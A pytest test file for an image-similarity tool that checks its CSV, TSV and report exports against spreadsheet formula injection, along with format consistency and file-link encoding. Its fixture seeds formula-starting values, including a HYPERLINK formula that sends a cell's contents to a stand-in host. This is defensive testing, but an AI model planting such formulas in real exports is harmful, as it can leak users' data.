"""Files for other programs: formulas, links, figures and truths, the same in each format."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote_to_bytes, urlsplit

import click
import networkx as nx
import pandas as pd
import pytest

from imgsim.cli import imgsim as every_command
from imgsim.database.connection import Connection
from imgsim.images.files import path_from_text, path_text
from imgsim.similarity import neighbours, pairs
from tests.conftest import Answer
from tests.formats import checked_package, query, read_csv
from tests.reuse import judge, verify
from tests.vectors import clustered, store

Imgsim = Callable[..., Answer]
BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'

EXPORTS = {
    "neighbours": ("-k", 3),
    "pairs": ("--threshold", 0.5),
    "groups-of-books": ("--threshold", 0.5),
    "groups": (),
    "group-members": (),
    "group-books": (),
    "images": (),
    "documents": (),
    "verdicts": (),
    "embeddings": (),
}
REPORTS = {
    "agreement": ("-k", 3),
    "calibration": (),
    "coverage": (),
    "decades": ("--threshold", 0.5),
    "documents": ("--threshold", 0.5),
    "evidence": (),
    "failures": (),
    "groups": (),
    "neighbours": ("-k", 3),
    "overlap": ("-k", 3),
    "recall": (),
    "reuse": (),
    "threshold": (),
    "verdicts": (),
}


@pytest.fixture
def hostile(connection: Connection, imgsim: Imgsim) -> Connection:
    """Pictures and books of others, each of whose texts would be run by a spreadsheet."""
    for name in ("resnet18", "resnet50"):
        model = store(connection, name, clustered(12, 32), books=3)
        neighbours.bring_up_to_date(connection, [model], 10)
        pairs.bring_up_to_date(connection, [model], 0.5)
    for number, mark in enumerate(BEGINS, 1):
        connection.execute(
            "update imgsim.image set name = %s, path = %s where image_id = %s",
            [f"{mark}1+{number}", f"{mark}/scans/{number}", number],
        )
    connection.execute("update imgsim.image set name = %s where image_id = 1", [FORMULA])
    connection.execute(
        """
        insert into imgsim.ecco_document
            (ecco_id, ecco_full_title, publication_year, publication_place, authors, estc_id)
        select lpad(n::text, 10, '0'), '=1+' || n, 1750 + n, '@London', '-Anon', '+T1'
        from generate_series(0, 3) n
        """
    )
    connection.execute(
        "insert into imgsim.ingest_failure (path, stage, reason) values ('=a', 'read', '-b')"
    )
    for image, other in ((1, 2), (2, 3), (4, 5)):
        verify(connection, image, other, 0.987654321)
        judge(connection, image, other, "same block", by="=Mary")
    judge(connection, 1, 9, "unrelated")
    assert imgsim("group").code == 0
    return connection


def cells(file: Path) -> Iterator[str]:
    delimiter = "\t" if file.suffix == ".tsv" else ","
    with file.open(encoding="utf-8", newline="") as opened:
        for row in csv.reader(opened, delimiter=delimiter):
            yield from row


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formulas(file: Path) -> list[str]:
    return [cell for cell in cells(file) if cell[:1] in [*BEGINS] and not is_number(cell)]


@pytest.mark.usefixtures("hostile")
def test_no_csv_of_an_export_holds_a_formula_where_it_is_to_be_safe(
    imgsim: Imgsim, tmp_path: Path
) -> None:
    for kind, options in EXPORTS.items():
        formats = ("csv", "tsv", "gephi") if kind in list(EXPORTS)[:6] else ("csv", "tsv")
        for format_ in ("npy",) if kind == "embeddings" else formats:
            plain, safe = tmp_path / f"{kind}-{format_}", tmp_path / f"{kind}-{format_}-safe"
            for folder, option in ((plain, ()), (safe, ("--spreadsheet-safe",))):
                to = ("--format", format_, "-o", folder)
                answer = imgsim("export", kind, *options, *to, *option)
                assert answer.code == 0, answer.err
            for file in [f for f in safe.iterdir() if f.suffix in (".csv", ".tsv")]:
                assert formulas(file) == [], (kind, format_)
                as_stored = list(cells(plain / file.name))
                assert [cell.removeprefix("'") for cell in cells(file)] == as_stored
            assert any(formulas(f) for f in plain.iterdir() if f.suffix in (".csv", ".tsv"))
            for folder, told in ((plain, None), (safe, True)):
                package = json.loads((folder / "datapackage.json").read_text("utf-8"))
                assert {
                    resource["imgsim"].get("spreadsheet_safe") for resource in package["resources"]
                } == {told}


@pytest.mark.usefixtures("hostile")
def test_no_csv_of_a_report_holds_a_formula_where_it_is_to_be_safe(
    imgsim: Imgsim, tmp_path: Path
) -> None:
    found = 0
    for kind, options in REPORTS.items():
        file, safe = tmp_path / f"{kind}.csv", tmp_path / f"{kind} safe.csv"
        assert imgsim("report", kind, *options, "-o", file).code == 0, kind
        answer = imgsim("report", kind, *options, "-o", safe, "--spreadsheet-safe")
        assert answer.code == 0, answer.err
        assert formulas(safe) == [], kind
        printed = imgsim("report", kind, *options, "--format", "csv", "--spreadsheet-safe").out
        assert kind == "recall" or printed == safe.read_bytes().decode()
        found += len(formulas(file))
    assert found > 50
    printed = imgsim("similar", 1, "--format", "csv", "--spreadsheet-safe").out
    (tmp_path / "similar.csv").write_bytes(printed.encode())
    assert formulas(tmp_path / "similar.csv") == []


@pytest.mark.usefixtures("hostile")
def test_every_package_is_one_that_frictionless_calls_valid(imgsim: Imgsim, tmp_path: Path) -> None:
    for format_ in ("csv", "tsv", "parquet"):
        for kind, options in EXPORTS.items():
            chosen = "parquet" if kind == "embeddings" else format_
            to = ("--format", chosen, "-o", tmp_path / format_, "--force")
            assert imgsim("export", kind, *options, *to).code == 0
        resources = checked_package(tmp_path / format_)
        assert {Path(path).stem for path in resources} >= set(EXPORTS)


def commands(group: click.Group, name: str = "") -> Iterator[tuple[str, click.Command]]:
    for part, command in group.commands.items():
        if isinstance(command, click.Group):
            yield from commands(command, f"{name} {part}".strip())
        else:
            yield f"{name} {part}".strip(), command


def test_every_command_that_writes_csv_can_write_it_safe_and_is_in_the_tests_above() -> None:
    known = {f"export {kind}" for kind in EXPORTS} | {f"report {kind}" for kind in REPORTS}
    writing = set()
    for name, command in commands(every_command):
        options = {option: parameter for parameter in command.params for option in parameter.opts}
        formats = getattr(getattr(options.get("--format"), "type", None), "choices", ())
        if {"csv", "npy"} & set(formats):
            assert "--spreadsheet-safe" in options, name
            writing.add(name)
    assert writing == known | {"similar", "table list", "model list", "region list"}


@pytest.mark.usefixtures("hostile")
def test_a_truth_is_spelled_alike_everywhere(imgsim: Imgsim, tmp_path: Path) -> None:
    texts = {}
    for format_ in ("csv", "json", "markdown", "table"):
        texts[format_] = imgsim("report", "reuse", "--format", format_).out
    for text in texts.values():
        assert "true" in text
        assert "false" in text
        for other in ("True", "False", "yes"):
            assert other not in text
    rows = json.loads(texts["json"])
    assert {type(row["is_first"]) for row in rows} == {bool}
    assert imgsim("export", "group-members", "-o", tmp_path / "members.csv").code == 0
    exported = [row["is_first"] for row in read_csv(tmp_path / "members.csv")]
    reported = [row["is_first"] for row in csv.DictReader(io.StringIO(texts["csv"]))]
    assert exported == reported == [str(row["is_first"]).lower() for row in rows]
    for command in ("report", "reuse"), ("export", "group-members"):
        file = tmp_path / f"{command[0]}.parquet"
        assert imgsim(*command, "-o", file).code == 0
        _, types = query(f"select distinct typeof(is_first) from '{file}'")
        assert types == [("BOOLEAN",)]


@pytest.mark.usefixtures("hostile")
def test_a_figure_is_the_same_in_every_file(imgsim: Imgsim, tmp_path: Path) -> None:
    at = ("image_id", "rank", "similarity", "normalised")

    def asked(command: tuple[Any, ...], ending: str) -> list[tuple[float, ...]]:
        file = tmp_path / f"{command[0]}.{ending}"
        assert imgsim(*command, "-o", file).code == 0
        if ending == "parquet":
            return query(f"select {', '.join(at)} from '{file}' order by 1, 2")[1]
        rows: list[Any] = json.loads(file.read_text()) if ending == "json" else read_csv(file)
        return sorted(tuple(float(row[name]) for name in at) for row in rows)

    report, export = ("report", "neighbours", "-k", 5), ("export", "neighbours", "-k", 5)
    first = asked(report, "csv")
    assert len(first) == 60
    assert all(number == round(number, 7) for row in first for number in row)
    for command, ending in (
        (report, "json"),
        (report, "parquet"),
        (export, "csv"),
        (export, "parquet"),
    ):
        assert asked(command, ending) == first, (command, ending)
    assert imgsim("export", "neighbours", "-k", 5, "-o", tmp_path / "n.graphml").code == 0
    weights = {w for _, _, w in nx.read_graphml(tmp_path / "n.graphml").edges(data="weight")}
    assert weights == {row[2] for row in first}


@pytest.mark.parametrize(
    "path",
    [
        "/scans/plain-1_0.png",
        "/My Scans/Größe 100%.png",
        "/書/a#b?c&d=e;f+g@h:i.png",
        "/back\\slash\\x41.png",
        "/not utf-8 \udcdf\udcff/é.png",
        "/quote\"'<>|*[]{}^`~.png",
        "/tab\tline\nend.png",
    ],
)
def test_a_link_opens_the_file_of_its_path(connection: Connection, path: str) -> None:
    row = connection.execute("select imgsim.file_link(%s)", [path_text(path)]).fetchone()
    assert row is not None
    link = row[0]
    assert link.isascii()
    assert link == "file://" + quote(os.fsencode(path), safe="/~._-:")
    assert unquote_to_bytes(urlsplit(link).path) == os.fsencode(path)
    assert path_from_text(path_text(path)) == path


def test_a_link_to_a_drive_has_three_strokes(connection: Connection) -> None:
    row = connection.execute("select imgsim.file_link('C:/My Scans/1.png')").fetchone()
    assert row == ("file:///C:/My%20Scans/1.png",)


@pytest.mark.usefixtures("hostile")
def test_every_picture_in_an_export_has_its_path_and_a_link(
    imgsim: Imgsim, connection: Connection, tmp_path: Path
) -> None:
    paths: dict[int, str] = dict(
        connection.execute("select image_id, path from imgsim.image").fetchall()
    )
    for kind in ("images", "neighbours", "pairs", "group-members", "verdicts", "embeddings"):
        file = tmp_path / f"{kind}.parquet"
        assert imgsim("export", kind, *EXPORTS[kind], "-o", file).code == 0
        rows = pd.read_parquet(file).to_dict("records")
        assert rows
        for row in rows:
            assert row["path"] == paths[row["image_id"]]
            assert row["link"].startswith("file://")
            if "other_id" in row:
                assert row["other_path"] == paths[row["other_id"]]
                assert row["other_link"].startswith("file://")
    connection.execute("update imgsim.image set ecco_id = null where image_id = 12")
    assert imgsim("export", "images", "-o", tmp_path / "images.csv").code == 0
    (without,) = read_csv(tmp_path / "images_without_partner.csv")
    assert (without["path"], without["link"]) == (paths[12], f"file://{paths[12]}")
    for kind in ("neighbours", "group-members"):
        assert imgsim("export", kind, "-o", tmp_path / f"{kind}.graphml").code == 0
        graph = nx.read_graphml(tmp_path / f"{kind}.graphml")
        assert all(data["link"].startswith("file://") for _, data in graph.nodes(data=True))
